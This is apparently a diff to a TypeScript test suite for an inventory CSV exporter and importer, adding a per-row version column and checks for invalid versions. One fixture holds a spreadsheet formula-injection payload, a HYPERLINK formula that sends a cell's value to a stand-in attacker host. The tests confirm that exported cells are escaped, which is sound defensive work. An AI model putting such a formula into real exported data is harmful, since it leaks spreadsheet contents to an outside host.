@@ -9,8 +9,8 @@ const none = undeclaredStatements();
 const water: Statements = { declarations: { ...none.declarations, sulphites: "free", milk: "free" }, animal: "no", meatOrFish: "no" };
 const flour: Statements = { declarations: { ...none.declarations, gluten: "contains", nuts: "may-contain" }, animal: "no", meatOrFish: "undeclared" };
 const items = [
-  { name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water },
-  { name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour },
+  { name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water, version: 3 },
+  { name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour, version: 1 },
 ];
 /** The columns an import gives for what the export wrote: all 18. */
 const allOf = (statements: Statements) => statementColumns(statements);
@@ -19,10 +19,10 @@ describe("the inventory CSV", () => {
   it("exports a header row, UTF-8 with a byte-order mark, unit keys, prices with a decimal point", () => {
     const csv = inventoryToCsv(items);
     expect(csv.startsWith("\uFEFFname,unit,price,vendor,category,allergen_gluten,allergen_crustaceans,")).toBe(true);
-    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish\r\n");
+    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish,version\r\n");
     expect(csv).toContain('"Şişe su, 0,5 l",bottle,12.50,"Doğuş ""Toptan""",beverage,undeclared,');
     expect(csv).toContain('Un,kg,45.00,Metro,food,contains,undeclared,');
-    expect(csv).toContain(",undeclared,no,undeclared\r\n");
+    expect(csv).toContain(",undeclared,no,undeclared,1\r\n");
   });
 
   it("reads back exactly what it wrote", () => {
@@ -30,8 +30,8 @@ describe("the inventory CSV", () => {
     expect(parsed).toEqual({
       ok: true,
       rows: [
-        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2 },
-        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3 },
+        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2, exportedVersion: 3 },
+        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3, exportedVersion: 1 },
       ],
     });
   });
@@ -56,6 +56,17 @@ describe("the inventory CSV", () => {
       ["Un", 1250, "food"],
       ["Ayran", 700, "beverage"],
     ]);
+  });
+
+  it("reads the version each row's item was exported at, none for a row without one, and names one that is not a version", () => {
+    const parsed = parseInventoryCsv("Ad;Birim;Fiyat;Tedarikçi;Kategori;Sürüm\nUn;kg;12,50;Metro;Gıda;7\nTuz;kg;8;Metro;Gıda;\n", "tr");
+    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.exportedVersion])).toEqual([["Un", 7], ["Tuz", undefined]]);
+    for (const version of ["0", "1.5", "yedi", "-2", "12345678901"]) {
+      expect(parseInventoryCsv(`name,unit,price,vendor,category,version\nUn,kg,12,Metro,food,${version}\n`, "en")).toEqual({
+        ok: false,
+        errors: [{ line: 2, messages: ['inventory.csvVersionInvalid|{"column":"version"}'] }],
+      });
+    }
   });
 
   it("reads the columns' names in Turkish", () => {
@@ -162,7 +173,7 @@ describe("the inventory CSV", () => {
   });
 
   describe("opened in a spreadsheet program", () => {
-    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none };
+    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none, version: 1 };
     /** The cells of a CSV text as a spreadsheet program reads them. */
     const cells = (csv: string) => (parse(csv.slice(1)) as string[][]).slice(1);
 
@@ -198,6 +209,7 @@ describe("the inventory CSV", () => {
         vendor: text,
         category: fc.constantFrom(...INVENTORY_CATEGORIES),
         statements: fc.constantFrom(none, water, flour),
+        version: fc.integer({ min: 1, max: 999_999_999 }),
       });
       const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` });
       fc.assert(
@@ -207,7 +219,9 @@ describe("the inventory CSV", () => {
           // Two names the import folds into one (ı and i, say) are refused as duplicates, never changed.
           if (!parsed.ok) return;
           expect(parsed.rows.map(({ name, vendor }) => ({ name, vendor }))).toEqual(rows.map(({ name, vendor }) => ({ name, vendor })));
-          expect(inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>) })))).toBe(csv);
+          expect(
+            inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>), version: row.exportedVersion ?? 0 }))),
+          ).toBe(csv);
           for (const row of cells(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
         }),
         { numRuns: 500 },
